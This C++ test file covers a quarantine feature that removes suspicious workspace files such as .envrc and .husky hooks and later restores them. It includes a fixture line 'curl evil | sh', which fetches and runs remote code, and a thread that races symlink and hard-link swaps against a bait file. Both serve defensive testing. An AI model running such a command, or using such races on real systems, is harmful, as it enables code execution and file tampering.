#include "guard/quarantine.h"

#include <gmock/gmock.h>
#include <sys/socket.h>
#include <sys/un.h>

#include <atomic>
#include <thread>

#include "base/text.h"
#include "guard/quarantine_trial.h"

namespace talaria {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;

using QuarantineTest = QuarantineTrial;

TEST_F(QuarantineTest, AFileIsTakenWithoutItsBitsAndPutBackWithThem) {
  write(workspace_ + "/.envrc", "curl evil | sh\n", 04755);
  const auto item = take(".envrc");
  ASSERT_TRUE(item) << item.error().message();
  EXPECT_THAT(left(), IsEmpty());
  EXPECT_EQ(mode_of(content(*item)), 0644U);
  EXPECT_EQ(mode_of(folder_), 0700U);
  EXPECT_EQ(item->bytes, 15U);
  EXPECT_EQ(item->kind, QuarantinedItem::Kind::file);
  EXPECT_EQ(*quarantine_.list(), std::vector{*item});
  EXPECT_EQ(quarantine_.read(*item, 4)->bytes, "curl");
  EXPECT_FALSE(quarantine_.read(*item, 4)->whole);
  EXPECT_FALSE(quarantine_.wanted(item->path, item->hash));

  const auto restored = quarantine_.restore(*item);
  ASSERT_TRUE(restored) << restored.error().message();
  EXPECT_EQ(*read_file(workspace_ + "/.envrc"), "curl evil | sh\n");
  EXPECT_EQ(mode_of(workspace_ + "/.envrc"), 04755U);
  EXPECT_THAT(*quarantine_.list(), IsEmpty());
  const auto folder = open_folder(workspace_);
  EXPECT_TRUE(quarantine_.wanted(item->path, *Quarantine::hash_of(folder->get(), ".envrc")));
  EXPECT_FALSE(quarantine_.wanted(workspace_ + "/other", item->hash));
}

TEST_F(QuarantineTest, AFolderIsTakenWholeWhateverItsModes) {
  ASSERT_TRUE(make_directories(workspace_ + "/.husky/closed"));
  write(workspace_ + "/.husky/pre-commit", "#!/bin/sh\n", 0755);
  write(workspace_ + "/.husky/closed/secret", "x", 0);
  ASSERT_EQ(::symlink("/etc/passwd", (workspace_ + "/.husky/link").c_str()), 0);
  ASSERT_EQ(::chmod((workspace_ + "/.husky/closed").c_str(), 0), 0);
  ASSERT_EQ(::chmod((workspace_ + "/.husky").c_str(), 0555), 0);
  const auto item = take(".husky");
  ASSERT_TRUE(item) << item.error().message();
  EXPECT_EQ(item->entries, 5U);
  EXPECT_EQ(item->note, "");
  EXPECT_EQ(mode_of(content(*item) + "/pre-commit"), 0644U);
  EXPECT_EQ(quarantine_.read(*item, 1000)->bytes, "closed/\nclosed/secret\nlink\npre-commit\n");
  const auto restored = quarantine_.restore(*item);
  ASSERT_TRUE(restored) << restored.error().message();
  EXPECT_EQ(mode_of(workspace_ + "/.husky"), 0555U);
  EXPECT_EQ(mode_of(workspace_ + "/.husky/pre-commit"), 0755U);
  EXPECT_EQ(mode_of(workspace_ + "/.husky/closed"), 0U);
  ASSERT_EQ(::chmod((workspace_ + "/.husky/closed").c_str(), 0700), 0);
  EXPECT_EQ(mode_of(workspace_ + "/.husky/closed/secret"), 0U);
}

TEST_F(QuarantineTest, LinksPipesAndSocketsAreTakenThemselves) {
  ASSERT_EQ(::symlink("/etc/passwd", (workspace_ + "/link").c_str()), 0);
  ASSERT_EQ(::mkfifo((workspace_ + "/pipe").c_str(), 0777), 0);
  const UniqueFd socket(::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0));
  const auto here = open_folder(workspace_);
  sockaddr_un address{.sun_family = AF_UNIX, .sun_path = {}};
  std::snprintf(address.sun_path, sizeof address.sun_path, "/proc/self/fd/%d/socket", here->get());
  ASSERT_EQ(::bind(socket.get(), reinterpret_cast<sockaddr*>(&address), sizeof address), 0);
  const auto link = take("link");
  ASSERT_TRUE(link);
  EXPECT_EQ(link->kind, QuarantinedItem::Kind::link);
  EXPECT_EQ(quarantine_.read(*link, 100)->bytes, "/etc/passwd");
  for (const char* name : {"pipe", "socket"}) {
    const auto item = take(name);
    ASSERT_TRUE(item) << item.error().message();
    EXPECT_EQ(item->kind, QuarantinedItem::Kind::other);
    EXPECT_TRUE(quarantine_.restore(*item));
  }
  ASSERT_TRUE(quarantine_.restore(*link));
  EXPECT_THAT(left(), ElementsAre("link", "pipe", "socket"));
  EXPECT_EQ(mode_of(workspace_ + "/pipe") & 0111, 0111 & ~::umask(022));
}

TEST_F(QuarantineTest, NamesThatAreNoTextSurvive) {
  const std::string name = "\xff\xfe.envrc";
  write(workspace_ + "/" + name, "x");
  const auto item = take(name);
  ASSERT_TRUE(item);
  EXPECT_EQ(Quarantine(folder_).list()->at(0).path, workspace_ + "/" + name);
  ASSERT_TRUE(quarantine_.restore(Quarantine(folder_).list()->at(0)));
  EXPECT_THAT(left(), ElementsAre(name));
  EXPECT_TRUE(quarantine_.wanted(item->path, item->hash));
}

TEST_F(QuarantineTest, TheOtherNameOfAFileKeepsItsMode) {
  write(workspace_ + "/build.sh", "x", 0755);
  ASSERT_EQ(::link((workspace_ + "/build.sh").c_str(), (workspace_ + "/.envrc").c_str()), 0);
  const auto item = take(".envrc");
  ASSERT_TRUE(item);
  EXPECT_EQ(mode_of(workspace_ + "/build.sh"), 0755U);
  EXPECT_EQ(mode_of(content(*item)), 0644U);
  EXPECT_EQ(*read_file(workspace_ + "/build.sh"), "x");
}

TEST_F(QuarantineTest, AFolderThatForbidsItIsNoObstacle) {
  ASSERT_TRUE(make_directories(workspace_ + "/d"));
  write(workspace_ + "/d/.envrc", "x");
  const auto folder = open_folder(workspace_ + "/d");
  ASSERT_EQ(::chmod((workspace_ + "/d").c_str(), 0), 0);
  const auto item = quarantine_.take(folder->get(), ".envrc", about("d/.envrc"));
  EXPECT_TRUE(item) << item.error().message();
  EXPECT_EQ(mode_of(workspace_ + "/d"), 0U);
}

TEST_F(QuarantineTest, WhatIsGoneAndWhatIsNoNameIsSaid) {
  EXPECT_EQ(take("nothing").error().code(), ErrorCode::not_found);
  for (const char* name : {"", ".", "..", "a/b"}) EXPECT_EQ(take(name).error().code(), ErrorCode::invalid_argument);
  EXPECT_THAT(*quarantine_.list(), IsEmpty());
}

TEST_F(QuarantineTest, IdenticalContentIsCountedAndTheOldestGoFirst) {
  Quarantine quarantine(folder_, {.most_bytes = 1000, .most_items = 3});
  for (int i = 0; i < 20; ++i) {
    write(workspace_ + "/.envrc", "same");
    ASSERT_EQ(take(quarantine, ".envrc")->times, i + 1);
  }
  EXPECT_EQ(quarantine.list()->size(), 1U);
  for (int i = 0; i < 5; ++i) {
    write(workspace_ + "/.envrc", "other " + std::to_string(i));
    ASSERT_TRUE(take(quarantine, ".envrc"));
  }
  EXPECT_EQ(quarantine.list()->size(), 3U);
  write(workspace_ + "/.envrc", std::string(2000, 'x'));
  const auto large = take(quarantine, ".envrc");
  ASSERT_EQ(quarantine.list()->size(), 1U);
  EXPECT_EQ(quarantine.list()->at(0), *large);
}

TEST_F(QuarantineTest, TheSameThingInTwoPlacesIsPutBackInBoth) {
  for (const std::string folder : {"a", "b"}) {
    ASSERT_TRUE(make_directories(workspace_ + "/" + folder));
    for (int i = 0; i < 3; ++i) {
      write(workspace_ + "/" + folder + "/.envrc", "same", folder == "a" ? 0755 : 0600);
      const UniqueFd opened = *open_folder(workspace_ + "/" + folder);
      const auto item = quarantine_.take(opened.get(), ".envrc", about(folder + "/.envrc"));
      ASSERT_TRUE(item) << item.error().message();
      EXPECT_EQ(item->times, i + 1);
    }
  }
  const std::vector<QuarantinedItem> items = *quarantine_.list();
  ASSERT_EQ(items.size(), 2U);
  for (const QuarantinedItem& item : items) {
    const auto restored = quarantine_.restore(*quarantine_.find(item.id));
    ASSERT_TRUE(restored) << restored.error().message();
    EXPECT_EQ(*read_file(item.path), "same");
    EXPECT_TRUE(quarantine_.wanted(item.path, item.hash));
  }
  EXPECT_EQ(mode_of(workspace_ + "/a/.envrc"), 0755U);
  EXPECT_EQ(mode_of(workspace_ + "/b/.envrc"), 0600U);
  EXPECT_THAT(*quarantine_.list(), IsEmpty());
}

TEST_F(QuarantineTest, IsFoundByAPrefixAndElseTheNearestIsNamed) {
  EXPECT_THAT(quarantine_.find("abc").error().message(), HasSubstr("it is empty"));
  write(workspace_ + "/.envrc", "x");
  const auto item = take(".envrc");
  EXPECT_EQ(*quarantine_.find(item->id), *item);
  EXPECT_EQ(*quarantine_.find(item->id.substr(0, 3)), *item);
  std::string wrong = item->id;
  wrong.back() = wrong.back() == 'a' ? 'b' : 'a';
  EXPECT_THAT(quarantine_.find(wrong).error().message(), HasSubstr("did you mean " + item->id));
  ASSERT_TRUE(quarantine_.remove(*item));
  EXPECT_THAT(*quarantine_.list(), IsEmpty());
  EXPECT_THAT(*list_directory(folder_), ElementsAre("lock"));
}

TEST_F(QuarantineTest, RestoreFollowsNoLinkAndReplacesOnlyWhenTold) {
  write(workspace_ + "/.envrc", "old");
  const auto item = take(".envrc");
  write(workspace_ + "/.envrc", "new");
  EXPECT_EQ(quarantine_.restore(*item).error().code(), ErrorCode::conflict);
  ASSERT_EQ(::symlink(workspace_.c_str(), (root_ + "/link").c_str()), 0);
  EXPECT_THAT(quarantine_.restore(*item, real_path(root_) + "/link/x").error().message(), HasSubstr("a link is on"));
  EXPECT_THAT(quarantine_.restore(*item, workspace_ + "/none/x").error().message(), HasSubstr("is not there"));
  EXPECT_EQ(*read_file(workspace_ + "/.envrc"), "new");
  ASSERT_TRUE(quarantine_.restore(*item, workspace_ + "/.envrc", Quarantine::Overwrite::yes));
  EXPECT_EQ(*read_file(workspace_ + "/.envrc"), "old");
  ASSERT_EQ(quarantine_.list()->size(), 1U);
  EXPECT_EQ(quarantine_.read(quarantine_.list()->at(0), 10)->bytes, "new");
}

TEST_F(QuarantineTest, WhatChangedSinceItWasTakenIsNotPutBack) {
  write(workspace_ + "/.envrc", "shown");
  const auto held = open_file(workspace_ + "/.envrc", O_RDWR);
  const auto item = take(".envrc");
  ASSERT_EQ(::pwrite(held->get(), "other", 5, 0), 5);
  EXPECT_THAT(quarantine_.restore(*item).error().message(), HasSubstr("changed since it was taken"));
  EXPECT_TRUE(quarantine_.restore(*item, item->path, Quarantine::Overwrite::yes));
}

TEST_F(QuarantineTest, ATreeOfAnyDepthIsTakenAndRemoved) {
  UniqueFd folder = *open_folder(workspace_);
  for (int level = 0; level < 3000; ++level) {
    ASSERT_EQ(::mkdirat(folder.get(), "d", 0700), 0);
    folder = UniqueFd(::openat(folder.get(), "d", O_RDONLY | O_DIRECTORY | O_CLOEXEC));
  }
  const auto item = take("d");
  ASSERT_TRUE(item);
  EXPECT_EQ(item->hash, "");
  EXPECT_THAT(item->note, HasSubstr("too large"));
  ASSERT_TRUE(quarantine_.remove(*item));
  EXPECT_THAT(*list_directory(folder_), ElementsAre("lock"));
}

TEST_F(QuarantineTest, NothingElseIsTouchedWhileSomebodyRenamesAndLinks) {
  const std::string bait = root_ + "/bait";
  ASSERT_TRUE(make_directories(bait));
  write(bait + "/run", "precious", 0755);
  std::atomic<bool> over = false;
  std::thread hostile([&] {
    const std::string entry = workspace_ + "/.envrc";
    const std::string spare = workspace_ + "/spare";
    while (!over) {
      (void)!::symlink(bait.c_str(), spare.c_str());
      (void)::rename(spare.c_str(), entry.c_str());
      (void)!::symlink((bait + "/run").c_str(), spare.c_str());
      (void)::rename(spare.c_str(), entry.c_str());
      (void)!::link((bait + "/run").c_str(), spare.c_str());
      (void)::rename(spare.c_str(), entry.c_str());
      (void)::unlink(entry.c_str());
      (void)::unlink(spare.c_str());
      (void)::mkdir(spare.c_str(), 0755);
      (void)!::symlink(bait.c_str(), (spare + "/in").c_str());
      (void)!::link((bait + "/run").c_str(), (spare + "/other").c_str());
      (void)::rename(spare.c_str(), entry.c_str());
    }
  });
  int taken = 0;
  while (taken < 500) {
    const auto item = take(".envrc");
    taken += item ? 1 : 0;
    EXPECT_TRUE(item || item.error().code() == ErrorCode::not_found) << item.error().message();
  }
  over = true;
  hostile.join();
  const std::vector<QuarantinedItem> items = *quarantine_.list();
  for (const QuarantinedItem& item : items) EXPECT_TRUE(quarantine_.remove(item));
  EXPECT_EQ(*read_file(bait + "/run"), "precious");
  EXPECT_EQ(mode_of(bait + "/run"), 0755U);
  EXPECT_EQ(mode_of(bait), 0700U);
  EXPECT_THAT(*list_directory(bait), ElementsAre("run"));
}

TEST_F(QuarantineTest, ManyMayUseItAtOnce) {
  std::vector<std::thread> threads;
  threads.reserve(4);
  for (int number = 0; number < 4; ++number) {
    threads.emplace_back([this, number] {
      Quarantine mine(folder_);
      for (int i = 0; i < 20; ++i) {
        const std::string name = std::to_string(number) + "-" + std::to_string(i);
        write(workspace_ + "/" + name, name);
        EXPECT_TRUE(take(mine, name));
        EXPECT_TRUE(mine.list());
      }
    });
  }
  for (std::thread& thread : threads) thread.join();
  EXPECT_EQ(quarantine_.list()->size(), 80U);
}

}  // namespace
}  // namespace talaria
